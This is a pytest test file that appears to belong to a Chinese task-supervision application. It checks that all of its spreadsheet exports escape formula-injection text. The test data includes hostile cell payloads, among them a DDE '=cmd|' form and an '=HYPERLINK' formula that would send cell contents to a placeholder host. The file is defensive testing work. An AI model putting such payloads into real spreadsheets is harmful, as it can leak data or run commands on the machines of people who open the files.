"""Sweep: every spreadsheet the product writes, fed hostile text, holds no formula.

A year is built through the real import and progress services with every text that can
reach a cell — task text, section, 完成时限, target metric and unit, leader and unit
names, a unit's alias, a report's 进展 / 问题 / 下步 / 阶段 — set to formula-like payloads
(``=HYPERLINK(…)``, ``=cmd|…``, ``+1+1``, ``-2+3``, ``@SUM(A1)``, tab and CR starts). Then
every 台账 exporter in the registry (and the ledger narrowed to a unit and to a leader), the
unit's workbook, the unit directory and ``duban parse --xlsx`` are written and reopened with
openpyxl and as raw sheet XML: no ``<f>``, no error cell, each payload shown as written, and
the numbers still numbers.
"""

from __future__ import annotations

import io
from collections.abc import Callable
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from duban.accounts.models import Role
from duban.accounts.services import user_create
from duban.cli import main
from duban.exports.base import XLSX, ExportParams
from duban.exports.registry import EXPORTERS
from duban.orgs.directory import directory_export_xlsx
from duban.orgs.models import Leader, OrgUnit, UnitAlias
from duban.plans.models import SourceDocument, Target, Task
from duban.progress import sheet
from duban.progress.selectors import primary_unit
from duban.progress.services import ReportInput, periods_ensure, progress_report_save
from duban.progress.services.workbook import workbook_export
from taskdoc.model import DocumentInfo, Location, ParseResult, SourceSpan, TaskList
from taskdoc.values import Comparator, TargetKind
from tests.duban.outputs_year import JULY, _target, _task, on
from tests.xlsxsafe.checks import HOSTILE, assert_shown, safe_texts

pytestmark = pytest.mark.django_db

# one payload per task; a suffix keeps texts and names distinct after normalisation
TASK_TEXTS = tuple(f"{payload}任务{n}。" for n, payload in enumerate(HOSTILE, start=1))
UNITS = tuple(f"{payload}局{n}" for n, payload in enumerate(HOSTILE, start=1))
LEADERS = tuple(f"{payload}领导{n}" for n, payload in enumerate(HOSTILE, start=1))


def _hostile_result() -> ParseResult:
    tasks = tuple(
        _task(
            n,
            TASK_TEXTS[n - 1],
            f"{payload}章{n}",
            UNITS[n - 1],
            LEADERS[n - 1],
            "lead" if n % 2 else "responsible",
            (_target(payload, TargetKind.COUNT, Comparator.AT_LEAST, "10", payload),),
        )
        for n, payload in enumerate(HOSTILE, start=1)
    )
    doc = DocumentInfo(title="关于印发2024年重点工作任务分解的通知", year=2024, level="市")
    return ParseResult(
        document=doc, lists=(TaskList("=清单", SourceSpan.at(Location(line=5))),), tasks=tasks
    )


def _build(fake_parse: Callable[[ParseResult], None], mp: pytest.MonkeyPatch) -> SourceDocument:
    from duban.plans.services import import_batch_create
    from duban.workflows import import_confirm

    fake_parse(_hostile_result())
    with on(date(2024, 3, 8), mp):
        batch = import_batch_create(data=b"hostile", filename="notice.txt", actor=None)
        import_confirm(batch=batch, actor=None)
    batch.refresh_from_db()
    document = batch.document
    assert document is not None
    june = next(p for p in periods_ensure(document=document) if p.label == "2024年6月")
    for task in Task.objects.filter(task_list__document=document).order_by("number"):
        payload = HOSTILE[task.number - 1]
        target = Target.objects.get(task=task)
        unit = primary_unit(task)
        assert unit is not None
        with on(date(2024, 7, 5), mp):
            progress_report_save(
                task=task,
                period=june,
                unit=unit,
                data=ReportInput(
                    progress=payload,
                    stage_text=payload,
                    problems=payload,
                    next_steps=payload,
                    actuals={target.pk: Decimal("4.5")},
                ),
                expected_version=None,
                submit=True,
                actor=None,
            )
    return document


@pytest.fixture
def hostile(fake_parse: Callable[[ParseResult], None], monkeypatch: pytest.MonkeyPatch) -> Any:
    document = _build(fake_parse, monkeypatch)
    first = OrgUnit.objects.order_by("pk").first()
    assert first is not None
    UnitAlias.objects.create(unit=first, name='=HYPERLINK("http://x"&A1,"点我")')
    office = user_create(username="office", password="pw-123456", role=Role.OFFICE)
    return document, office


def _stored_texts(document: SourceDocument) -> list[str]:
    """What the database holds after the services normalised the payloads (names, strip)."""
    tasks = Task.objects.filter(task_list__document=document)
    texts = [t.text for t in tasks]
    texts += [u.name for u in OrgUnit.objects.all()] + [x.name for x in Leader.objects.all()]
    texts += [t.metric for t in Target.objects.filter(task__in=tasks)]
    for task in tasks:
        report = task.progress_reports.get()  # one report each, June
        texts += [report.progress, report.problems, report.next_steps]
    return texts


def _rows(data: bytes, first: int) -> list[tuple[Any, ...]]:
    ws = load_workbook(io.BytesIO(data)).active
    assert ws is not None
    return list(ws.iter_rows(min_row=first, values_only=True))


def test_every_registered_export_writes_hostile_text_as_text(hostile: Any) -> None:
    document, office = hostile
    stored = _stored_texts(document)
    assert sum(text.startswith(("=", "+", "-", "@", "\t", "\r")) for text in stored) > 30
    unit = OrgUnit.objects.get(name=UNITS[2])  # 牵头 of task 3
    leader = Leader.objects.get(name=LEADERS[3])  # of task 4
    narrowed = (
        ("ledger", {"unit_id": unit.pk}),
        ("ledger", {"leader_id": leader.pk}),
    )
    runs = [(identifier, {}) for identifier in EXPORTERS] + list(narrowed)
    assert {"ledger", "ranking", "yearend"} <= set(EXPORTERS)
    for identifier, extra in runs:
        params = ExportParams(user=office, document=document, as_of=JULY, **extra)
        _, content_type, data = EXPORTERS[identifier].render(params)
        if content_type != XLSX:
            continue  # a .docx report (the year-end report) has no cells to inject
        texts = safe_texts(data)  # no <f>, no error cell, formula-like text quote-prefixed
        rows = _rows(data, first=3)
        assert rows, f"{identifier} {extra} wrote no data row"
        if identifier == "ranking":
            assert_shown(texts, *(u.name for u in OrgUnit.objects.all()))  # names, normalised
        elif extra:
            assert len(rows) == 1
            assert_shown(texts, TASK_TEXTS[2 if "unit_id" in extra else 3])
        else:
            assert_shown(texts, *HOSTILE, *TASK_TEXTS)
            if identifier == "ledger":
                assert_shown(texts, *stored)


def test_exports_keep_numbers_numeric(hostile: Any) -> None:
    document, office = hostile
    params = ExportParams(user=office, document=document, as_of=JULY)
    ledger = _rows(EXPORTERS["ledger"].render(params)[2], first=3)
    assert [row[0] for row in ledger] == list(range(1, 8))  # 序号: ints, not text
    ranking = _rows(EXPORTERS["ranking"].render(params)[2], first=3)
    assert all(isinstance(row[0], int) and row[2] == 1 for row in ranking)  # 名次, 任务数
    assert all(isinstance(row[-2], float | int) for row in ranking)  # 得分
    yearend = _rows(EXPORTERS["yearend"].render(params)[2], first=3)
    assert [row[0] for row in yearend] == list(range(1, 8))


def test_unit_workbook_is_safe_and_reads_back_as_written(hostile: Any) -> None:
    document, _ = hostile
    june = document.periods.get(label="2024年6月")
    for task in Task.objects.filter(task_list__document=document):
        unit = primary_unit(task)
        assert unit is not None
        data = workbook_export(unit=unit, period=june)
        texts = safe_texts(data)
        report = task.progress_reports.get()
        assert_shown(texts, task.text, report.progress, report.problems, report.stage_text)
        parsed = sheet.read_workbook(data)
        assert parsed.errors == []
        (row,) = parsed.tasks
        assert (row.task_id, row.version) == (task.pk, report.version)
        assert (row.progress, row.stage_text, row.problems, row.next_steps) == (
            report.progress,
            report.stage_text,
            report.problems,
            report.next_steps,
        )
        (target,) = parsed.targets
        assert target.actual == Decimal("4.5")  # 累计完成 stayed a number
        ws = load_workbook(io.BytesIO(data))[sheet.TASK_SHEET]
        assert isinstance(ws["A2"].value, int) and isinstance(ws["H2"].value, int)


def test_unit_directory_export_is_safe(hostile: Any) -> None:
    data = directory_export_xlsx()
    texts = safe_texts(data)
    assert_shown(texts, *(u.name for u in OrgUnit.objects.all()))
    assert '=HYPERLINK("http://x"&A1,"点我")' in texts  # the alias, a cell of its own


def test_parse_xlsx_of_a_hostile_notice(tmp_path: Path) -> None:
    notice = tmp_path / "notice.txt"
    notice.write_text(
        "关于印发2024年重点工作任务分解的通知\n一、经济发展\n"
        + "".join(
            f"{n}. {payload}推进第{n}项工作。\n责任领导：张洋\n责任单位：区发改委\n"
            for n, payload in enumerate(HOSTILE[:5], start=1)
        ),
        encoding="utf-8",
    )
    out = tmp_path / "台账.xlsx"
    assert main(["parse", str(notice), "--xlsx", str(out)]) == 0
    data = out.read_bytes()
    texts = safe_texts(data)
    assert_shown(texts, *(f"{p}推进第{n}项工作。" for n, p in enumerate(HOSTILE[:5], start=1)))
    assert [row[0] for row in _rows(data, first=2)] == [1, 2, 3, 4, 5]
